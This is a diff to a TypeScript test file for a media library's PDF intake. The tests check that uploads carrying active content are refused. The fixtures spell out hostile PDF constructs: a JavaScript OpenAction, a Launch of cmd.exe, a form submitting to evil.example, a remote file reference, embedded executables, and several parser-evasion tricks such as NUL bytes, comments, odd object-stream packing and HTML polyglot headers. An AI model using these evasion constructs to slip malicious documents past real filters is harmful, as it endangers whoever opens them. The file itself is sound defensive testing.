@@ -1,10 +1,11 @@
 import { createHash } from 'node:crypto';
 import { deflateSync } from 'node:zlib';
 import PDFDocument from 'pdfkit';
+import { getDocumentProxy } from 'unpdf';
 import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
 import { createMediaLibrary } from '#domain/media';
 import { aLibrary, aPhoto, bodyOf, bytesIn, namesIn, refused, type TestLibrary } from './media.fixture.ts';
-import { aReport, pdfOf, pdfStream } from './pdf.fixture.ts';
+import { aPackedReport, aReport, packedByRows, packedTwice, pdfOf, pdfStream } from './pdf.fixture.ts';
 
 vi.setConfig({ testTimeout: 30_000 });
 
@@ -32,6 +33,9 @@ async function writtenReport(): Promise<Buffer> {
 }
 
 const script = '<< /S /JavaScript /JS (app.alert(1)) >>';
+const launch = '<< /S /Launch /F (cmd.exe) >>';
+const withFirstLine = (line: string) =>
+  Buffer.from(aReport().toString('latin1').replace('%PDF-1.7', line), 'latin1');
 const packedObjects = (text: string, how = '') =>
   pdfStream(`/Type /ObjStm /N 1 /First 4 ${how}`, `7 0 ${text}`);
 
@@ -41,6 +45,7 @@ describe('a report', () => {
       aReport(),
       await writtenReport(),
       aReport('', [packedObjects('<< /Type /Font >>')]),
+      aPackedReport({ packed: ['<< /Type /Font >>', '<< /Type /Outlines /First 8 0 R >>'] }),
     ]) {
       const document = await takeIn(bytes);
       expect(document).toEqual({
@@ -51,7 +56,18 @@ describe('a report', () => {
       expect((await kept.library.open(`${document.hash}.pdf`))?.bytes).toBe(bytes.byteLength);
       expect(await takeIn(bytes)).toEqual(document);
     }
-    expect(await namesIn(kept.storage)).toHaveLength(3);
+    expect(await namesIn(kept.storage)).toHaveLength(4);
+  });
+
+  test('of today opens in a reader, with what is packed in it', async () => {
+    const bytes = aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script] });
+    const document = await getDocumentProxy(new Uint8Array(bytes));
+    expect([document.numPages, await document.getJSActions()]).toEqual([1, { OpenAction: ['app.alert(1)'] }]);
+    for (const packing of [packedByRows, packedTwice]) {
+      const hidden = aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], packing });
+      const opened = await getDocumentProxy(new Uint8Array(hidden));
+      expect(await opened.getJSActions()).toEqual({ OpenAction: ['app.alert(1)'] });
+    }
   });
 
   test.each([
@@ -72,7 +88,27 @@ describe('a report', () => {
     ['a file inside', aReport('/Names << /EmbeddedFiles 5 0 R >>', [pdfStream('/Type /EmbeddedFile', 'MZ')])],
     ['a form that sends', aReport('/AA << /O << /S /SubmitForm /F (https://evil.example) >> >>')],
     ['a form of the other kind', aReport('/AcroForm << /XFA [(a) 5 0 R] >>')],
+    ['a form of the other kind, behind a NUL', aReport('/AcroForm << /XFA\0[(a) 5 0 R] >>')],
+    ['a form of the other kind, behind a comment', aReport('/AcroForm << /XFA%c\n5 0 R >>')],
+    ['a form of the other kind, packed', aPackedReport({ packed: ['<< /XFA%c\n5 0 R >>'] })],
     ['a film', aReport('', ['<< /Subtype /RichMedia >>'])],
+    ['another document to open', aReport('/OpenAction << /S /GoToR /F (\\\\evil.example\\x.pdf) >>')],
+    [
+      'a file pinned to a page',
+      aReport('', ['<< /Subtype /FileAttachment /FS 6 0 R >>', '<< /F (a.exe) /EF << /F 7 0 R >> >>']),
+    ],
+    ['a file that nothing calls one', aReport('/AF [5 0 R]', ['<< /F (a.exe) /EF << /F 6 0 R >> >>'])],
+    ['a file, in an object without its number', aReport('', ['null\nendobj\n5 0%c\nobj\n<< /#45F 7 0 R >>'])],
+    ['a file, where only a reader that is sent there looks', aReport('/X (5 0 obj << /EF 6 0 R >> endobj)')],
+    ['a file, packed', aPackedReport({ packed: ['<< /F (a.exe) /EF << /F 5 0 R >> >>'] })],
+    [
+      'a script among packed objects that end their line as old programs do',
+      aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], keyword: 'stream\r' }),
+    ],
+    [
+      'a script among packed objects behind a blank',
+      aPackedReport({ catalog: '/OpenAction 7 0 R', packed: [script], keyword: 'stream \n' }),
+    ],
   ])('with %s is refused', async (_what, bytes) => {
     await expect(takeIn(bytes)).rejects.toEqual(refused('media.document_active'));
   });
@@ -93,6 +129,29 @@ describe('a report', () => {
       'whose objects are packed in a way nobody uses',
       aReport('', ['<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] >>\nstream\n789c>\nendstream']),
     ],
+    ['whose objects are packed twice', aPackedReport({ packed: [script], packing: packedTwice })],
+    ['whose objects are packed by rows', aPackedReport({ packed: [script], packing: packedByRows })],
+    [
+      'whose objects are packed by rows and say nothing of it',
+      aPackedReport({ packed: [launch], packing: packedByRows, about: '/Type /XObject /Subtype /Image' }),
+    ],
+    [
+      'whose objects are packed by rows behind words that look like an end',
+      aPackedReport({ packed: [launch], packing: packedByRows, about: '/X (>> endobj 9 0 obj <<)' }),
+    ],
+    [
+      'whose objects are packed in another way by a short name',
+      aPackedReport({ packed: [script], packing: packedTwice, about: '/F [/Fl /Fl]' }),
+    ],
+    [
+      'whose brackets do not pair, so that readers see other ends',
+      aPackedReport({ packed: [launch], packing: packedByRows, about: '/A [ >> stream\n ]' }),
+    ],
+    ['whose array does not end', aReport('', ['[ << /A [ >> endobj << /EF 6 0 R >>'])],
+    ['whose objects begin after more words', aPackedReport({ packed: [script], keyword: 'stream x\n' })],
+    ['whose objects are not packed', aReport('', ['<< /N 1 /First 4 >>\nstream\n7 0 null\nendstream'])],
+    ['with a web page in its first line', withFirstLine('%PDF-1.7 <html><script>1</script><!--')],
+    ['with a web page in its first line behind a tab', withFirstLine('%PDF-1.7\t<script>')],
     [
       'whose objects do not unpack',
       aReport('', ['<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n\x78\x9cnada\nendstream']),
@@ -124,5 +183,20 @@ describe('a report', () => {
     await expect(strict.takeInDocument(bodyOf(aReport()))).rejects.toEqual(refused('media.busy'));
     await first;
     await strict.takeInDocument(bodyOf(aReport()));
+  });
+
+  test('that takes long is refused, and the photograph behind it is taken in', async () => {
+    const hurried = aLibrary({ documentDeadlineMs: 1 });
+    try {
+      const bytes = await aPhoto(400, 300).jpeg().toBuffer();
+      const [document, photo] = await Promise.allSettled([
+        hurried.library.takeInDocument(bodyOf(aReport())),
+        hurried.library.takeIn(bodyOf(bytes)),
+      ]);
+      expect(document).toEqual({ status: 'rejected', reason: refused('media.document_unreadable') });
+      expect(photo).toMatchObject({ status: 'fulfilled', value: { width: 400, height: 300 } });
+    } finally {
+      await hurried.close();
+    }
   });
 });
